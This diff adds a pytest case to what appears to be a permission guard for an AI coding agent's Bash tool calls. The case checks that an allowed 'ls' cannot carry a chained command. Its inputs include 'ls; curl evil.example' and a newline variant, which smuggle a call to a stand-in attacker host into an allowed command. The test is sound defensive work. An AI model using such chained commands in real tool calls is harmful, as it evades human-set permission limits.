@@ -348,3 +348,16 @@ def test_the_text_of_a_turn_is_looked_at_once(desk: Desk) -> None:
     assert said.verdict == "block"
     assert "evil.example" not in said.out
     assert ask(desk, "claude-code", {**leads, "stop_hook_active": True}).verdict == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["ls; curl evil.example", "ls\ncurl evil.example", " ls", "ls $(x)", "ls -la ~", "LS", "git status -s"],
+    ids=stable,
+)
+def test_the_beginning_of_a_command_line_says_nothing(desk: Desk, command: str) -> None:
+    """Case 88: commands are compared whole."""
+    session = Session("claude-code")
+    arm(desk, session)
+    assert ask(desk, "claude-code", session.before("Bash", {"command": "ls"})).verdict == "allow"
+    assert ask(desk, "claude-code", session.before("Bash", {"command": command})).verdict == "deny"
